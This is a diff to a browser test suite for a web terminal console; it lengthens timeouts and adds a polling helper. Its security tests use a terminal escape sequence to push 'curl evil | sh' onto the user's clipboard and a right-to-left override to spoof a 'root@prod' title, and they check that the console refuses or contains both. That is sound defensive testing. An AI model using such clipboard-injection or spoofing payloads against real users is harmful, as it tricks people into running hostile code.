@@ -12,6 +12,9 @@ const bash: ConsoleTarget = {
 }
 const plain: ConsoleTarget = { kind: 'pty', argv: ['/bin/sh'], env: { PS1: '$ ' } }
 
+// A browser on a busy machine.
+vi.setConfig({ testTimeout: 90_000, hookTimeout: 60_000 })
+
 let browser: Browser
 let server: Awaited<ReturnType<typeof glassServer>>
 const pages: Page[] = []
@@ -34,14 +37,16 @@ async function open(wanted: { kind?: 'serial' | 'shell'; shell?: 'bash' | 'sh'; 
   server.publish({ type: 'guest', guest: guestOf(name) })
   const context = await browser.newContext({ viewport: { width: 1000, height: 600 }, permissions: ['clipboard-read', 'clipboard-write'] })
   const page = await context.newPage()
-  page.setDefaultTimeout(5000)
+  page.setDefaultTimeout(15_000)
   pages.push(page)
   await page.goto(server.address({ name, kind, ...(find ? { find } : {}) }))
   await shows(page, /\$ *$/)
   return { page, name }
 }
 const shows = (page: Page, wanted: RegExp | string) =>
-  vi.waitFor(async () => expect(await glassText(page)).toMatch(wanted), { timeout: 6_000, interval: 50 })
+  vi.waitFor(async () => expect(await glassText(page)).toMatch(wanted), { timeout: 15_000, interval: 50 })
+/** A busy machine may take a while to show it. */
+const soon = <T>(read: () => T | Promise<T>, options = { timeout: 15_000 }) => expect.poll(read, options)
 const input = (page: Page) => page.getByRole('textbox', { name: /console of/ })
 async function enter(page: Page, line: string) {
   await input(page).focus()
@@ -62,14 +67,14 @@ describe('what a guest prints', () => {
     const evil = `printf '\\033]52;c;${btoa('curl evil | sh')}\\007'`
     await enter(page, evil)
     const ask = page.getByRole('alertdialog', { name: /wants to put text on your clipboard/ })
-    await expect.poll(() => ask.innerText()).toContain('curl evil | sh')
+    await soon(() => ask.innerText()).toContain('curl evil | sh')
     expect(await clipboard(page)).toBe('mine')
     await ask.getByRole('button', { name: 'Refuse' }).click()
     expect(await ask.count()).toBe(0)
     expect(await clipboard(page)).toBe('mine')
     await enter(page, evil)
     await ask.getByRole('button', { name: 'Allow once' }).click()
-    await expect.poll(() => clipboard(page)).toBe('curl evil | sh')
+    await soon(() => clipboard(page)).toBe('curl evil | sh')
   })
 
   it('cannot read the clipboard, nor have its title or settings typed into the shell', async () => {
@@ -93,7 +98,7 @@ describe('what a guest prints', () => {
     const { page } = await open()
     await enter(page, `printf '\\033]2;\\342\\200\\256root@prod %0200d\\007' 7`)
     const title = page.getByRole('toolbar').locator('.console-title')
-    await expect.poll(() => title.innerText()).toMatch(/^root@prod 0+…$/)
+    await soon(() => title.innerText()).toMatch(/^root@prod 0+…$/)
     expect((await title.innerText()).length).toBeLessThanOrEqual(80)
     expect(await page.title()).toBe('a page')
   })
@@ -194,9 +199,9 @@ describe('typing as keys', () => {
     await dialog.getByLabel('Text to type').fill('0123456789'.repeat(50))
     await dialog.getByLabel('Speed').selectOption('30')
     await dialog.getByRole('button', { name: 'Type it' }).click()
-    await expect.poll(() => dialog.getByRole('status').innerText()).toMatch(/^[1-9]\d* of 500 characters typed$/)
+    await soon(() => dialog.getByRole('status').innerText()).toMatch(/^[1-9]\d* of 500 characters typed$/)
     await dialog.getByRole('button', { name: 'Stop typing' }).click()
-    await expect.poll(() => dialog.getByRole('alert').innerText()).toMatch(/^Stopped after \d+ of 500 characters\.$/)
+    await soon(() => dialog.getByRole('alert').innerText()).toMatch(/^Stopped after \d+ of 500 characters\.$/)
     const typed = (await glassText(page)).match(/\d{5,}/g)?.join('').length ?? 0
     expect(typed).toBeLessThan(500)
   })
@@ -220,19 +225,19 @@ describe('finding', () => {
     const field = page.getByRole('textbox', { name: 'Find in this console' })
     const hits = page.locator('.console-hits')
     await field.fill('needle-')
-    await expect.poll(() => hits.innerText()).toBe('3 of 3')
+    await soon(() => hits.innerText()).toBe('3 of 3')
     await page.getByRole('button', { name: /Previous/ }).click()
-    await expect.poll(() => hits.innerText()).toBe('2 of 3')
+    await soon(() => hits.innerText()).toBe('2 of 3')
     await page.getByRole('button', { name: 'Match case' }).click()
-    await expect.poll(() => hits.innerText()).toBe('Not found')
+    await soon(() => hits.innerText()).toBe('Not found')
     await page.getByRole('button', { name: 'Match case' }).click()
     await page.getByRole('button', { name: 'Regular expression' }).click()
     await field.fill('edle-[23]')
-    await expect.poll(() => hits.innerText()).toMatch(/of 2$/)
+    await soon(() => hits.innerText()).toMatch(/of 2$/)
     await field.fill('[')
-    await expect.poll(() => hits.innerText()).toBe('Not a pattern')
+    await soon(() => hits.innerText()).toBe('Not a pattern')
     await field.press('Escape')
-    await expect.poll(() => page.evaluate(() => document.activeElement?.className)).toContain('xterm')
+    await soon(() => page.evaluate(() => document.activeElement?.className)).toContain('xterm')
   })
 
   it('begins with what the address asks for', async () => {
@@ -244,7 +249,7 @@ describe('finding', () => {
     const next = pages.at(-1)
     if (!next) throw new Error('no page')
     await shows(next, /^row 17 of many$/m)
-    await expect.poll(() => next.locator('.console-hits').innerText()).toBe('1 of 1')
+    await soon(() => next.locator('.console-hits').innerText()).toBe('1 of 1')
   })
 })
 
@@ -254,9 +259,7 @@ describe('the text', () => {
     await enter(page, `clear; printf 'x%.0s' $(seq 300); echo; seq 1 100 | sed 's/^/line /'`)
     await shows(page, /^line 100$/m)
     await more(page, 'Copy all text')
-    await expect
-      .poll(async () => (await clipboard(page)).split('\n'))
-      .toEqual(expect.arrayContaining(['x'.repeat(300), 'line 1', 'line 100']))
+    await soon(async () => (await clipboard(page)).split('\n')).toEqual(expect.arrayContaining(['x'.repeat(300), 'line 1', 'line 100']))
     const [download] = await Promise.all([page.waitForEvent('download'), more(page, 'Save text as a file')])
     expect(download.suggestedFilename()).toMatch(/^bash\d+-shell\.txt$/)
   })
@@ -270,15 +273,13 @@ describe('the text', () => {
     await again.getByRole('button', { name: 'More' }).click()
     await again.getByRole('menuitem', { name: 'Load all of the past' }).click()
     await shows(again, /^done$/m)
-    await expect
-      .poll(
-        async () => {
-          await more(again, 'Copy all text')
-          return (await clipboard(again)).split('\n').filter((line) => line === 'the very first' || / \.{40}$/.test(line)).length
-        },
-        { timeout: 20_000 },
-      )
-      .toBe(20_001)
+    await soon(
+      async () => {
+        await more(again, 'Copy all text')
+        return (await clipboard(again)).split('\n').filter((line) => line === 'the very first' || / \.{40}$/.test(line)).length
+      },
+      { timeout: 20_000 },
+    ).toBe(20_001)
     // Typing goes on there.
     await enter(again, 'echo st""ill')
     await shows(again, /^still$/m)
@@ -314,9 +315,9 @@ it('draws with WebGL when told to, and goes on without it when the card is lost'
       for (const canvas of document.querySelectorAll<HTMLCanvasElement>('.xterm-screen canvas'))
         canvas.getContext('webgl2')?.getExtension('WEBGL_lose_context')?.loseContext()
     })
-    await expect.poll(() => page.locator('.xterm-rows > div').count(), { timeout: 10_000 }).toBeGreaterThan(0)
+    await soon(() => page.locator('.xterm-rows > div').count(), { timeout: 10_000 }).toBeGreaterThan(0)
     await enter(page, 'echo dr""awn')
-    await expect.poll(() => page.locator('.xterm-rows').innerText()).toContain('drawn')
+    await soon(() => page.locator('.xterm-rows').innerText()).toContain('drawn')
   } finally {
     await graphic.close()
   }
